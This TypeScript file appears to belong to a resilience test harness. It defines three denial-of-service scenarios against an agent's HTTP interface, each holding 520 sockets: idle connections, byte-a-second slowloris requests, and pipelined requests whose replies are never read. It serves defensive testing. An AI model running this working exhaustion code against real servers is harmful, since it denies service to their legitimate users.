/**
 * A client holds 520 connections to an agent's HTTP interface: idle, sending a request at a byte a second, or asking
 * again and again without ever reading an answer. It costs 520 sockets. Others' stakers and the operator's probes
 * must not be refused, and nothing may pile up.
 */
import type { Socket } from "node:net";
import type { Attack, Enemy } from "../attack.ts";
import { httpPort, openSocket } from "../http.ts";
import { holdSockets } from "../sockets.ts";

const SOCKETS = 520;
const SLOW_MS = 1_000;
const GREEDY_MS = 500;
const REQUESTS_AT_ONCE = 20;
const HEAD = "POST /v1/claims HTTP/1.1\r\nhost: agent\r\ncontent-type: application/json\r\ncontent-length: 60\r\n\r\n";
const GREEDY = "GET /v1/nodes HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n".repeat(REQUESTS_AT_ONCE);

function hold(enemy: Enemy, tend: (socket: Socket) => void): Promise<void> {
  return holdSockets(enemy, SOCKETS, () => {
    const { host, port } = httpPort(enemy.victim());
    const open = (): Socket => {
      const socket = openSocket(host, port);
      tend(socket);
      return socket;
    };
    return [{ key: "http", open }];
  });
}

function repeat(socket: Socket, everyMs: number, act: (time: number) => void): void {
  let times = 0;
  const timer = setInterval(() => act(times++), everyMs);
  socket.on("close", () => clearInterval(timer));
}

const common = { cutOff: false, throughVictim: true, does: ["sockets"] } as const;

export const httpIdle: Attack = {
  ...common,
  name: "http-idle",
  about: "a client holds 520 HTTP connections that say nothing",
  run: (enemy) => hold(enemy, (socket) => void socket.resume()),
};

export const httpSlow: Attack = {
  ...common,
  name: "http-slow",
  about: "a client sends 520 requests at a byte a second",
  run: (enemy) =>
    hold(enemy, (socket) => {
      socket.resume();
      repeat(socket, SLOW_MS, (time) => socket.write(HEAD[time % HEAD.length] as string));
    }),
};

export const httpNeverReads: Attack = {
  ...common,
  name: "http-never-reads",
  about: "a client asks over 520 HTTP connections and never reads",
  run: (enemy) =>
    hold(enemy, (socket) => {
      socket.pause();
      repeat(socket, GREEDY_MS, () => {
        if (!socket.writableNeedDrain) socket.write(GREEDY);
      });
    }),
};
